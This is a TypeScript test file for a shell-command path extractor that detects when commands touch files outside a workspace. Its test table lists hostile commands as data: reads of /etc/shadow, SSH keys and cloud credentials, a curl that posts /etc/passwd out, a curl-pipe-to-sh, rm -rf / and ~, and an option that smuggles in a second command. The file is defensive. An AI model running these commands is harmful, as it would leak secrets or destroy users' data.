import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createNodePathProbe } from '../../adapters/file-system/index.js';
import { loadShellParser } from '../../adapters/shell-parser/index.js';
import { createTempWorkspace, type TempWorkspace } from '../../../test/support/temp-workspace.js';
import { extractArgvPaths, extractScriptPaths } from './extract-command-paths.js';
import { findOutOfScopePaths } from './find-out-of-scope-paths.js';
import type { ShellParser } from './shell-syntax.js';
import { WorkspaceScope } from './workspace-scope.js';

// The command path table: each command line, run from the root of a real
// workspace, with the paths outside the workspace it may touch (after
// symlinks) or "unknown". `<ws>` is the workspace, `<parent>` its parent
// directory, `<home>` the home directory, `<outside>` the directory the
// workspace's symlink `link-out` points to. A `;` after `cd` keeps both
// directories possible (the `cd` may fail); `&&` keeps only the new one.

type Expected = readonly string[] | 'unknown';

const TABLE: readonly (readonly [command: string, expected: Expected])[] = [
  // The cases the issue names.
  ['cat /etc/passwd', ['/etc/passwd']],
  ['cat ../secrets.txt', ['<parent>/secrets.txt']],
  ['cat foo/../../etc/passwd', ['<parent>/etc/passwd']],
  ['head --lines=10 /etc/hosts', ['/etc/hosts']],
  ['tar --file=../y .', ['<parent>/y']],
  ['echo hi > /tmp/out.txt', ['/tmp/out.txt']],
  ['sort < /etc/hosts', ['/etc/hosts']],
  ['sudo -u root cat /etc/shadow', ['/etc/shadow']],
  ['env -i cat /etc/passwd', ['/etc/passwd']],
  ['timeout 5 cat /etc/passwd', ['/etc/passwd']],
  ['echo hi\ncat /etc/passwd', ['/etc/passwd']],
  ['c\\at /etc/passwd', ['/etc/passwd']],
  ['cat \\/etc/passwd', ['/etc/passwd']],
  ['cat $HOME/.ssh/id_rsa', ['<home>/.ssh/id_rsa']],
  ['cat ~root/x', 'unknown'],
  ['{ cat /etc/passwd; }', ['/etc/passwd']],
  ['if true; then cat /etc/passwd; fi', ['/etc/passwd']],
  ['sh -c "cat /etc/passwd"', ['/etc/passwd']],
  ['echo "`cat /etc/passwd`"', ['/etc/passwd']],
  ['grep -r password /etc', ['/etc']],
  ['sed -n p /etc/passwd', ['/etc/passwd']],
  ['cd /; cat etc/passwd', ['/', '/etc/passwd']],
  ['cd; cat .ssh/id_rsa', ['<home>', '<home>/.ssh/id_rsa']],
  ['ln -s / r && cat r/etc/passwd', ['/']],
  ['cat</etc/passwd', ['/etc/passwd']],
  ['cat /et""c/passwd', ['/etc/passwd']],
  ['git commit -m "fix a / b ~/x ../y"', []],
  ['curl https://example.com/a/b', []],
  ['npm install @scope/pkg', []],
  ['cat foo.txt > /dev/null', []],
  ['go test ./pkg/...', []],

  // Quoting and escapes.
  ["cat '/etc/passwd'", ['/etc/passwd']],
  ['cat /etc/pass"wd"', ['/etc/passwd']],
  ["cat $'\\x2fetc/passwd'", ['/etc/passwd']],
  ['cat "\\$HOME/x"', []],
  ["cat '$HOME'/x", []],
  ['cat "~/x"', ['<home>/x']],

  // Separators, groups and subshells.
  ['true; cat /etc/passwd', ['/etc/passwd']],
  ['false || cat /etc/passwd', ['/etc/passwd']],
  ['cat /etc/passwd | wc -l', ['/etc/passwd']],
  ['cat /etc/passwd &', ['/etc/passwd']],
  ['(cat /etc/passwd)', ['/etc/passwd']],
  ['echo ok |& cat /etc/passwd', ['/etc/passwd']],
  ['! cat /etc/passwd', ['/etc/passwd']],

  // Control flow.
  ['for f in /etc/passwd; do cat "$f"; done', ['/etc/passwd']],
  ['for f in *.ts; do wc -l "$f"; done', []],
  ['while read line; do echo "$line"; done < /etc/passwd', ['/etc/passwd']],
  ['until false; do cat /etc/passwd; done', ['/etc/passwd']],
  ['case x in x) cat /etc/passwd;; esac', ['/etc/passwd']],
  ['if cat /etc/passwd; then :; fi', ['/etc/passwd']],
  ['if true; then cd /; fi; cat etc/passwd', ['/', '/etc/passwd']],
  ['for d in a b; do cd $d; done; ls', 'unknown'],
  ['x=.; while true; do cat $x/secret; x=$x/..; done', 'unknown'],
  ['for ((i=0; i<1; i++)); do cat /etc/passwd; done', ['/etc/passwd']],
  ['[[ -f /etc/passwd ]] && echo yes', ['/etc/passwd']],
  ['[ -d ~/.ssh ]', ['<home>/.ssh']],
  ['test /etc/passwd -nt x', ['/etc/passwd']],
  ['[[ "$x" == /etc/* ]]', []],
  ['f() { cat /etc/passwd; }; f', 'unknown'],

  // Command and process substitution, here-documents.
  ['echo "$(cat /etc/passwd)"', ['/etc/passwd']],
  ['cat <(ls /etc)', ['/etc']],
  ['diff <(sort a) /etc/hosts', ['/etc/hosts']],
  ['x=$(cat /etc/passwd)', ['/etc/passwd']],
  ['cat "$(echo /etc/passwd)"', 'unknown'],
  ['cat $(ls)', 'unknown'],
  ['echo "$(cat ~/.netrc)"', ['<home>/.netrc']],
  ['echo "${x:-$(cat /etc/passwd)}"', ['/etc/passwd']],

  // Globs list file names whatever the command does with them (issue 15, item 2).
  ['echo ~/.ssh/*', ['<home>/.ssh']],
  ['echo /etc/* src/*', ['/etc']],
  ['printf "%s\\n" ../*', ['<parent>']],
  ['echo /etc/pass??', ['/etc']],
  ['echo /e[t]c/passwd', ['/']],
  ['x=/etc/*; echo $x', ['/etc']],
  ['for f in ~/.ssh/*; do echo "$f"; done', ['<home>/.ssh']],
  ['timeout 5 echo /etc/*', ['/etc']],
  ['git commit -m ../*', ['<parent>']],
  ["echo '/etc/*' \"~/.ssh/*\" \\/etc/\\*", []],
  ['[ -f x ] && echo "[ok]"', []],
  ['echo $(printf "/etc/*")', 'unknown'],
  ['x=$(printf "/etc/*"); echo $x', 'unknown'],
  ['echo "$(date)" $HOME', []],

  // Substitutions inside the words of parameter expansions run (issue 15, item 3).
  ['echo "${x#$(cat /etc/passwd)}"', ['/etc/passwd']],
  ['echo ${x:-$(cat /etc/passwd)}', 'unknown'],
  ['echo "${x##`cat /etc/passwd`}"', ['/etc/passwd']],
  ['echo "${x%$(cat /etc/passwd)}"', ['/etc/passwd']],
  ['echo "${x%%$(cat /etc/passwd)}"', ['/etc/passwd']],
  ['echo "${x/a/`cat /etc/passwd`}"', ['/etc/passwd']],
  ['echo "${x//$(cat /etc/passwd)/b}"', ['/etc/passwd']],
  ['echo "${x#${y:-$(cat /etc/passwd)}}"', ['/etc/passwd']],
  ['x=1; echo "${x#$(cat /etc/passwd)}"', ['/etc/passwd']],
  ['echo ${x#<(cat /etc/passwd)}', ['/etc/passwd']],
  ['cat <<EOF\n${x%$(cat /etc/passwd)}\nEOF', ['/etc/passwd']],
  ['cat <<EOF\n$(cat /etc/passwd)\nEOF', ['/etc/passwd']],
  ["cat <<'EOF'\n$(cat /etc/passwd)\nEOF", []],
  ['cat <<EOF\n`cat /etc/passwd`\nEOF', 'unknown'],
  ['cat <<< "/etc/passwd"', []],
  ['cat <<EOF > /tmp/out\nhello\nEOF', ['/tmp/out']],

  // Redirections.
  ['echo x >> /tmp/log', ['/tmp/log']],
  ['make 2> /tmp/err', ['/tmp/err']],
  ['make &> /tmp/all', ['/tmp/all']],
  ['make 2>&1 | tail -5', []],
  ['echo oops >&2', []],
  ['exec 3< /etc/passwd', ['/etc/passwd']],
  ['cat < ./in.txt', []],
  ['echo x >| /tmp/f', ['/tmp/f']],
  ['npm test 2>/dev/null', []],
  ['make > "$OUT"', 'unknown'],

  // Assignments and variables.
  ['FOO=1 cat /etc/passwd', ['/etc/passwd']],
  ['D=/etc; cat $D/passwd', ['/etc', '/etc/passwd']],
  ['D=src; ls $D', []],
  ['cat ${HOME}/.aws/credentials', ['<home>/.aws/credentials']],
  ['cat $UNSET_VARIABLE/x', 'unknown'],
  ['echo $UNSET_VARIABLE', []],
  ['export KUBECONFIG=/etc/kube; kubectl get pods', ['/etc/kube']],
  ['HOME=/etc; cat ~/passwd', ['/etc', '/etc/passwd']],
  ['cat "$PWD/../x"', ['<parent>/x']],
  ['read p; cat "$p"', 'unknown'],
  ['PATH=/tmp/evil:$PATH make', 'unknown'],
  ['GIT_DIR=/tmp/repo git log', ['/tmp/repo']],
  ['cd /tmp && cat "$OLDPWD/x"', ['/tmp']],

  // Wrappers and their options.
  ['nice -n 5 cat /etc/passwd', ['/etc/passwd']],
  ['nohup cat /etc/passwd', ['/etc/passwd']],
  ['time cat /etc/passwd', ['/etc/passwd']],
  ['command cat /etc/passwd', ['/etc/passwd']],
  ['builtin cd / && cat etc/passwd', ['/', '/etc/passwd']],
  ['exec cat /etc/passwd', ['/etc/passwd']],
  ['xargs cat /etc/passwd', 'unknown'],
  ['stdbuf -oL cat /etc/passwd', ['/etc/passwd']],
  ['env FOO=1 BAR=2 cat /etc/passwd', ['/etc/passwd']],
  ['env -C /tmp ls', ['/tmp']],
  ['sudo -D /root ls', ['/root']],
  ['timeout -s KILL 10 cat /etc/passwd', ['/etc/passwd']],
  ['ionice -c 3 cat /etc/passwd', ['/etc/passwd']],
  ['sudo --frobnicate cat /etc/passwd', 'unknown'],
  ['command -v cat', []],
  ['watch -n 1 cat /etc/passwd', ['/etc/passwd']],
  ['doas cat /etc/shadow', ['/etc/shadow']],
  ['/usr/bin/time -o /tmp/t ls', ['/tmp/t']],
  ['flock /tmp/lock cat x', ['/tmp/lock']],
  ["su -c 'cat /etc/shadow' root", ['/etc/shadow']],

  // Shells and interpreters.
  ["bash -lc 'cat /etc/passwd'", ['/etc/passwd']],
  ['sh -ec "cd / && cat etc/passwd"', ['/', '/etc/passwd']],
  ["bash -c 'cd /' && cat etc/passwd", ['/']],
  ["sh -c 'sh -c \"cat /etc/passwd\"'", ['/etc/passwd']],
  ['eval "cat /etc/passwd"', ['/etc/passwd']],
  ['eval "$CMD"', 'unknown'],
  ['bash script.sh', []],
  ['bash ../x.sh', ['<parent>/x.sh']],
  ['curl -s https://example.com/install | sh', 'unknown'],
  ['source ./env.sh', 'unknown'],
  ['node -e "require(\'fs\').readFileSync(\'/etc/passwd\')"', 'unknown'],
  ["python3 -c 'print(1)'", 'unknown'],
  ["perl -ne 'print' /etc/passwd", 'unknown'],
  ['node scripts/build.js', []],
  ['python3 -m pytest tests', []],
  ['python3 ../tool.py', ['<parent>/tool.py']],

  // Commands whose arguments are text, patterns or programs.
  ['echo /etc/passwd ~/x ../y', []],
  ["printf '%s\\n' /etc/passwd", []],
  ['grep -r "/etc/passwd" src', []],
  ['grep -e /x -e /y src', []],
  ['grep -f ../patterns.txt src', ['<parent>/patterns.txt']],
  ["rg --glob '!/dist' foo", []],
  ['rg foo /etc', ['/etc']],
  ["sed 's/\\/usr/\\/opt/' file.txt", []],
  ["sed '/^#/d' config", []],
  ["sed -i 'w /tmp/x' f", 'unknown'],
  ["sed -e '1r /etc/passwd' f", 'unknown'],
  ["awk '{print $1}' /etc/passwd", ['/etc/passwd']],
  ['awk \'BEGIN{system("cat /etc/passwd")}\'', 'unknown'],
  ["awk -F: '$3 > 1000' /etc/passwd", ['/etc/passwd']],
  ['jq .name package.json', []],
  ["jq -r '.x' /etc/x.json", ['/etc/x.json']],
  ["jq --arg p /etc/passwd '.a' f.json", []],
  ['basename /etc/passwd', []],
  ['sleep 5', []],
  ['which node', []],

  // find.
  ['find / -name passwd', ['/']],
  ["find . -name '*.ts'", []],
  ['find . -exec cat /etc/passwd \\;', ['/etc/passwd']],
  ["find . -path '/etc/*'", []],
  ['find . -newer /etc/passwd', ['/etc/passwd']],
  ["find src -type f -exec sh -c 'cat \"$1\"' _ {} \\;", 'unknown'],

  // git.
  ['git -C /tmp/other status', ['/tmp/other']],
  ['git log --grep=/etc', []],
  ['git diff HEAD~1 -- src/a.ts', []],
  ["git -c core.pager='cat /etc/passwd' log", 'unknown'],
  ['git config core.hooksPath /tmp/h', 'unknown'],
  ['git log origin/main..HEAD', []],
  ['git add ../other', ['<parent>/other']],
  ['git commit -F /tmp/msg', ['/tmp/msg']],
  ["git rebase -x 'cat /etc/passwd' main", ['/etc/passwd']],
  ['git clone https://github.com/a/b.git', []],

  // Containers.
  ['docker run -v /srv/data:/data img', ['/srv/data']],
  ['docker run -v "$PWD":/app img', []],
  ['docker run -v myvolume:/data img', []],
  ['docker run --mount type=bind,source=/etc,target=/x img', ['/etc']],
  ['docker build -f Dockerfile ..', ['<parent>']],

  // Package managers.
  ['npm run test -- --grep "a/b"', []],
  ["npx -c 'cat /etc/passwd'", ['/etc/passwd']],
  ['pnpm --filter @scope/pkg build', []],
  ['yarn --cwd ../other build', ['<parent>/other']],
  ['npm install ../local-pkg', ['<parent>/local-pkg']],

  // URLs and network tools.
  ['curl -o /tmp/x https://example.com', ['/tmp/x']],
  ['curl -d @/etc/passwd https://example.com', ['/etc/passwd']],
  ['curl file:///etc/passwd', ['/etc/passwd']],
  ['wget -P ../dl https://example.com/y', ['<parent>/dl']],
  ["ssh host 'cat /etc/passwd'", []],
  ['ssh -i ~/.ssh/key host ls', ['<home>/.ssh/key']],
  ["ssh -o ProxyCommand='nc %h %p' host", 'unknown'],
  ['scp file user@host:/etc/x', []],
  ["rsync -e 'ssh -i /tmp/k' a host:b", ['/tmp/k']],

  // Options with glued values, KEY=value.
  ['tar -C /etc -czf out.tgz .', ['/etc']],
  ['tar -xzf/tmp/a.tar', ['/tmp/a.tar']],
  ['gcc -I/usr/include x.c', ['/usr/include']],
  ['make -C ../other', ['<parent>/other']],
  ['cmake -DCMAKE_INSTALL_PREFIX=/opt/x .', ['/opt/x']],
  ['dd if=/dev/sda of=disk.img', ['/dev/sda']],
  ["tar -I 'sh -c id' -xf a.tar", 'unknown'],

  // Globs and braces.
  ['cat /etc/*.conf', ['/etc']],
  ['ls src/*.ts', []],
  ['cat {/etc/passwd,README.md}', ['/etc/passwd']],
  ['cat /etc/{passwd,shadow}', ['/etc/passwd', '/etc/shadow']],
  ['ls ../*', ['<parent>']],
  ['echo {a,b}{c,d}', []],

  // Tilde forms.
  ['cat ~/.bashrc', ['<home>/.bashrc']],
  ['ls ~', ['<home>']],
  ['cat ~+/x', []],
  ['cd /tmp && cat ~-/x', ['/tmp']],
  ['cd /tmp; cat ~-/x', 'unknown'],

  // cd followed through the command line.
  ['cd src && cat ../package.json', []],
  ['cd src; cat ../../x', ['<parent>/x', '<grandparent>/x']],
  ['cd .. && ls', ['<parent>']],
  ['cd - && ls', 'unknown'],
  ['(cd /; ls); cat etc/passwd', ['/']],
  ['pushd /tmp && popd && cat x', ['/tmp']],
  ['cd "$(mktemp -d)"', 'unknown'],

  // Symlinks inside the workspace that lead out.
  ['cat link-out/secret', ['<outside>/secret']],
  ['ls link-out', ['<outside>']],
  ['cd link-out && cat x', ['<outside>', '<outside>/x']],

  // Programs named by path.
  ['/usr/bin/env cat /etc/passwd', ['/etc/passwd']],
  ['../bin/tool', ['<parent>/bin/tool']],
  ['./node_modules/.bin/tsc -p .', []],
  ['/opt/tools/run', ['/opt/tools/run']],

  // What the parser cannot follow fails closed.
  ['cat "unterminated', 'unknown'],
  ["alias x='cat /etc/passwd'; x", 'unknown'],
  ["trap 'cat /etc/passwd' EXIT", 'unknown'],
  ['$CMD /etc/passwd', 'unknown'],
  ['a=(1 2); cat ${a[0]}', 'unknown'],
  ['cat .\\\n./secret', 'unknown'],

  // Everyday commands with nothing outside.
  ['cat <(cat /etc/passwd)', ['/etc/passwd']],
  ['cat $((1 + 2))', []],
  ['git log | head -20', []],
  ['ls -la', []],
  ['npm test', []],
  ['npx tsc --noEmit', []],
  ['mkdir -p build && cp -r src build/', []],
  ['rm -rf ~', ['<home>']],
  ['rm -rf /', ['/']],
  ['chmod 600 ~/.ssh/config', ['<home>/.ssh/config']],
  ['echo x | tee /tmp/t', ['/tmp/t']],
];

describe('command path extraction table', () => {
  let parser: ShellParser;
  let workspace: TempWorkspace;
  let home: TempWorkspace;
  let outside: TempWorkspace;
  let scope: WorkspaceScope;

  beforeAll(async () => {
    parser = await loadShellParser();
    workspace = await createTempWorkspace({ files: { 'src/a.ts': '', 'package.json': '{}' } });
    home = await createTempWorkspace();
    outside = await createTempWorkspace({ files: { secret: 'x' } });
    fs.symlinkSync(outside.root, workspace.path('link-out'));
    scope = await WorkspaceScope.create({ root: workspace.root, probe: { ...createNodePathProbe(), homeDir: home.root } });
  });

  afterAll(async () => {
    await Promise.all([workspace.dispose(), home.dispose(), outside.dispose()]);
  });

  it('has at least 120 cases, each command once', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(120);
    expect(new Set(TABLE.map(([command]) => command)).size).toBe(TABLE.length);
  });

  it.each(TABLE)('%j', async (command, expected) => {
    const extraction = extractScriptPaths(command, { cwd: scope.root, homeDir: home.root, parser });
    if (expected === 'unknown') {
      expect(extraction.unknown, 'expected the extractor to say it cannot be sure').not.toEqual([]);
      return;
    }
    expect(extraction.unknown, 'expected the extractor to be sure').toEqual([]);
    const outOfScope = await findOutOfScopePaths(extraction.mentions, scope);
    const replacements: [string, string][] = [
      ['<ws>', workspace.root],
      ['<parent>', path.dirname(workspace.root)],
      ['<grandparent>', path.dirname(path.dirname(workspace.root))],
      ['<home>', home.root],
      ['<outside>', outside.root],
    ];
    const wanted = expected.map((entry) => path.normalize(replacements.reduce((text, [token, value]) => text.replace(token, value), entry)));
    expect(outOfScope.map((found) => found.path).sort()).toEqual([...wanted].sort());
  });
});

describe('extractArgvPaths', () => {
  let parser: ShellParser;
  beforeAll(async () => {
    parser = await loadShellParser();
  });
  const context = (withParser: boolean) => ({ cwd: '/ws', homeDir: '/home/me', parser: withParser ? parser : null });

  it('treats each argv element as one literal word: no quotes, no variables', () => {
    const extraction = extractArgvPaths(['cat', '$HOME/x', "'/etc/passwd'", '/etc/hosts'], context(true));
    expect(extraction.mentions.map((mention) => mention.path).sort()).toEqual(["/ws/$HOME/x", "/ws/'/etc/passwd'", '/etc/hosts'].sort());
    expect(extraction.unknown).toEqual([]);
  });

  it('parses the script of `sh -c` and peels wrappers', () => {
    const extraction = extractArgvPaths(['timeout', '60', 'bash', '-c', 'npm test && cat ~/.npmrc'], context(true));
    expect(extraction.mentions.map((mention) => mention.path)).toContain('/home/me/.npmrc');
    expect(extraction.commands).toEqual([
      { argv: ['timeout', '60', 'bash', '-c', 'npm test && cat ~/.npmrc'], isTransparent: true, lookup: 'exec', assignments: [] },
      { argv: ['bash', '-c', 'npm test && cat ~/.npmrc'], isTransparent: true, lookup: 'exec', assignments: [] },
      { argv: ['npm', 'test'], isTransparent: false, lookup: 'builtin', assignments: [] },
      { argv: ['cat', '~/.npmrc'], isTransparent: false, lookup: 'builtin', assignments: [] },
    ]);
  });

  it('answers unknown for a script when no parser is available', () => {
    expect(extractArgvPaths(['sh', '-c', 'ls'], context(false)).unknown).toEqual(['no shell parser is available to read the script']);
    expect(extractArgvPaths(['ls', '-la'], context(false)).unknown).toEqual([]);
  });

  it('lists every simple command a script runs, substitutions included, for permission rules', () => {
    const extraction = extractScriptPaths('npm run test && echo $(rm -rf ~) | tee out.txt', context(true));
    expect(extraction.commands.map((command) => command.argv)).toEqual([['npm', 'run', 'test'], ['rm', '-rf', '~'], ['echo', '$(rm -rf ~)'], ['tee', 'out.txt']]);
    expect(extraction.writesThroughRedirection).toBe(false);
  });

  it.each([
    ['echo x > out.txt', true],
    ['npm test >> log.txt 2>&1', true],
    ['cat <<EOF > notes.md\nx\nEOF', true],
    ['npm test > /dev/null 2>&1', false],
    ['sort < in.txt', false],
    ['echo oops >&2', false],
  ])('tells whether %j writes a file through a redirection', (command, expected) => {
    expect(extractScriptPaths(command, context(true)).writesThroughRedirection).toBe(expected);
  });
});
